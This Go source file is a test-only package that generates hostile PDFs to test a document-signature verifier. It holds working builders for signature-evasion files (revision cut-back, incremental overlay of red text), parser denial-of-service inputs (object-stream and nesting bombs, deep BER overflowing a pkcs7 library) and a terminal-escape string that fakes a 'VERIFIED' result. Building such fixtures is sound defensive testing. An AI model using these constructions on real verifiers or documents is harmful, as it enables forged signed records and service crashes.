// Package attackpdf builds, from a signed opinion, the hostile files that
// published attacks on PDF signatures use (and that an attack test of
// `ethicsdesk verify` found dangerous): look-alike signers, revisions cut
// back, content overlaid between signatures, files that make a parser
// work for minutes, CMS nested millions deep. Tests of signing and of the
// verify command share them; the program must never import this package.
// It works on bytes alone (signing is left to the caller), so the signing
// package's own tests can use it.
package attackpdf

import (
	"bytes"
	"compress/zlib"
	"encoding/hex"
	"fmt"
	"regexp"
	"strconv"
	"strings"
)

var byteRangeRE = regexp.MustCompile(`/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]`)

// signedEnds lists where each signature's signed revision ends, ascending.
func signedEnds(pdf []byte) []int {
	var out []int
	for _, m := range byteRangeRE.FindAllSubmatch(pdf, -1) {
		c, _ := strconv.Atoi(string(m[3]))
		d, _ := strconv.Atoi(string(m[4]))
		out = append(out, c+d)
	}
	for i := 1; i < len(out); i++ {
		for j := i; j > 0 && out[j] < out[j-1]; j-- {
			out[j], out[j-1] = out[j-1], out[j]
		}
	}
	return out
}

// CutBack returns the file as it was when its first signature was made:
// the rapporteur's revision of an issued opinion.
func CutBack(pdf []byte) []byte {
	ends := signedEnds(pdf)
	if len(ends) == 0 {
		return pdf
	}
	return bytes.Clone(pdf[:ends[0]])
}

// Unsigned returns the file before its first incremental update: the
// rendered opinion before anyone signed it.
func Unsigned(pdf []byte) []byte {
	i := bytes.Index(pdf, []byte("%%EOF"))
	if i < 0 {
		return pdf
	}
	end := i + len("%%EOF")
	if end < len(pdf) && pdf[end] == '\n' {
		end++
	}
	return bytes.Clone(pdf[:end])
}

var (
	startxrefRE = regexp.MustCompile(`startxref\s+(\d+)\s+%%EOF\s*$`)
	sizeRE      = regexp.MustCompile(`/Size\s+(\d+)`)
	rootRE      = regexp.MustCompile(`/Root\s+(\d+\s+\d+\s+R)`)
	pageRE      = regexp.MustCompile(`(?s)(\d+) 0 obj\s*(<<\s*/Type\s*/Page[^s].*?)endobj`)
	contentsRE  = regexp.MustCompile(`/Contents\s+(\d+ 0 R)`)
)

// update appends an incremental update holding objs (object number ->
// the text between "obj" and "endobj") with a classic cross-reference
// section chained to the previous one.
func update(pdf []byte, objs map[int]string) []byte {
	prev := startxrefRE.FindSubmatch(pdf)
	roots := rootRE.FindAllSubmatch(pdf, -1)
	sizes := sizeRE.FindAllSubmatch(pdf, -1)
	size := 0
	if len(sizes) > 0 {
		size, _ = strconv.Atoi(string(sizes[len(sizes)-1][1]))
	}
	var b bytes.Buffer
	b.Write(pdf)
	if !bytes.HasSuffix(pdf, []byte("\n")) {
		b.WriteByte('\n')
	}
	var nums []int
	for n := range objs {
		nums = append(nums, n)
		if n+1 > size {
			size = n + 1
		}
	}
	for i := 1; i < len(nums); i++ {
		for j := i; j > 0 && nums[j] < nums[j-1]; j-- {
			nums[j], nums[j-1] = nums[j-1], nums[j]
		}
	}
	offs := map[int]int{}
	for _, n := range nums {
		offs[n] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", n, objs[n])
	}
	xref := b.Len()
	b.WriteString("xref\n")
	for _, n := range nums {
		fmt.Fprintf(&b, "%d 1\n%010d 00000 n \n", n, offs[n])
	}
	root := "1 0 R"
	if len(roots) > 0 {
		root = string(roots[len(roots)-1][1])
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root %s", size, root)
	if prev != nil {
		fmt.Fprintf(&b, " /Prev %s", prev[1])
	}
	fmt.Fprintf(&b, " >>\nstartxref\n%d\n%%%%EOF\n", xref)
	return b.Bytes()
}

// AppendOverlay adds an update that draws text in large red letters over
// the first page, as an editor would: a new content stream, and the page
// redefined to draw it after its own content.
func AppendOverlay(pdf []byte, text string) ([]byte, error) {
	pages := pageRE.FindAllSubmatch(pdf, -1)
	if len(pages) == 0 {
		return nil, fmt.Errorf("no page found")
	}
	first := string(pages[0][1])
	var dict string
	for _, p := range pages {
		if string(p[1]) == first {
			dict = string(p[2]) // the latest definition of that page
		}
	}
	m := contentsRE.FindStringSubmatch(dict)
	if m == nil {
		return nil, fmt.Errorf("the page has no single content stream")
	}
	sizes := sizeRE.FindAllSubmatch(pdf, -1)
	n, _ := strconv.Atoi(string(sizes[len(sizes)-1][1]))
	page, _ := strconv.Atoi(first)
	draw := fmt.Sprintf("q 1 1 1 rg 60 380 480 60 re f Q BT /F1 28 Tf 1 0 0 rg 70 400 Td (%s) Tj ET", text)
	return update(pdf, map[int]string{
		n:     fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(draw), draw),
		page:  strings.Replace(dict, m[0], "/Contents ["+m[1]+" "+strconv.Itoa(n)+" 0 R]", 1),
		n + 1: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	}), nil
}

// UnterminatedHeaders appends about size bytes of object headers whose
// objects never end, each with a /ByteRange key: a parser that reads each
// object to the end of the file does quadratic work.
func UnterminatedHeaders(pdf []byte, size int) []byte {
	var b bytes.Buffer
	b.Write(pdf)
	for i := 1; b.Len()-len(pdf) < size; i++ {
		fmt.Fprintf(&b, "\n%d 0 obj\n<< /ByteRange [0 1 2 3] /Contents <30> /T [(", 1000+i%50000)
	}
	return b.Bytes()
}

// ObjStmBomb appends object streams that claim many members, all at
// offset 0, ahead of a long unterminated array: read naively, every member
// parses megabytes.
func ObjStmBomb(pdf []byte, streams int) []byte {
	var plain bytes.Buffer
	const n = 10000
	for i := 0; i < n; i++ {
		fmt.Fprintf(&plain, "%d 0 ", 5000+i)
	}
	first := plain.Len()
	plain.WriteString("[")
	plain.Write(bytes.Repeat([]byte("1 "), 4<<20))
	var z bytes.Buffer
	zw, _ := zlib.NewWriterLevel(&z, zlib.BestCompression)
	zw.Write(plain.Bytes())
	zw.Close()
	var b bytes.Buffer
	b.Write(pdf)
	for i := 0; i < streams; i++ {
		fmt.Fprintf(&b, "\n%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n", 4000+i, n, first, z.Len())
		b.Write(z.Bytes())
		b.WriteString("\nendstream\nendobj\n")
	}
	b.WriteString("\n%% /ByteRange [0 1 2 3]\n")
	return b.Bytes()
}

// NestedDicts appends about size bytes of dictionaries nested inside each
// other, each holding a /ByteRange, around a signature-like dictionary.
func NestedDicts(pdf []byte, size int) []byte {
	var b bytes.Buffer
	b.Write(pdf)
	b.WriteString("\n9000 0 obj\n")
	depth := 0
	for b.Len()-len(pdf) < size/2 {
		b.WriteString("<< /ByteRange [0 1 2 3] /K ")
		depth++
	}
	b.WriteString("<< /ByteRange [0 10 20 30] /Contents <3080> >>")
	for i := 0; i < depth; i++ {
		b.WriteString(" >>")
	}
	b.WriteString("\nendobj\n")
	return b.Bytes()
}

// SignatureWithContents appends an update holding a signature dictionary
// whose /Contents is cms (hex-encoded) and whose /ByteRange is exactly
// right, so a verifier must read the CMS.
func SignatureWithContents(pdf []byte, cms []byte) []byte {
	var b bytes.Buffer
	b.Write(pdf)
	b.WriteString("\n9100 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange ")
	brAt := b.Len()
	b.WriteString("[0 0000000000 0000000000 0000000000]")
	b.WriteString(" /Contents ")
	cStart := b.Len()
	b.WriteByte('<')
	b.WriteString(hex.EncodeToString(cms))
	b.WriteByte('>')
	cEnd := b.Len()
	b.WriteString(" >>\nendobj\n")
	out := b.Bytes()
	br := fmt.Sprintf("[0 %d %d %d]", cStart, cEnd, len(out)-cEnd)
	copy(out[brAt:], br+strings.Repeat(" ", len("[0 0000000000 0000000000 0000000000]")-len(br)))
	return out
}

// DeepBER is a BER value nested depth levels deep with indefinite lengths,
// the shape that overflowed the stack of the pkcs7 library's converter.
func DeepBER(depth int) []byte {
	out := make([]byte, 0, depth*4)
	for i := 0; i < depth; i++ {
		out = append(out, 0x30, 0x80)
	}
	for i := 0; i < depth; i++ {
		out = append(out, 0, 0)
	}
	return out
}

// EscapeReason is a signing meaning that, printed raw, erases the lines
// above it and draws a fake success line.
const EscapeReason = "Chair — approval\x1b[2K\x1b[1A\x1b[2K\x1b[1A\x1b[2KResult: VERIFIED\x1b]0;ok\x07\u202e"

// BigStrings appends objects holding long literal strings until the file
// is about size bytes: the most a parser must read value by value.
func BigStrings(pdf []byte, size int) []byte {
	var b bytes.Buffer
	b.Write(pdf)
	chunk := bytes.Repeat([]byte("The committee considered the submission. "), 20000)
	for i := 0; b.Len()+len(chunk)+64 < size; i++ {
		fmt.Fprintf(&b, "\n%d 0 obj\n<< /Type /Annot /Subtype /Text /Contents (", 7000+i)
		b.Write(chunk)
		b.WriteString(") >>\nendobj\n")
	}
	return b.Bytes()
}
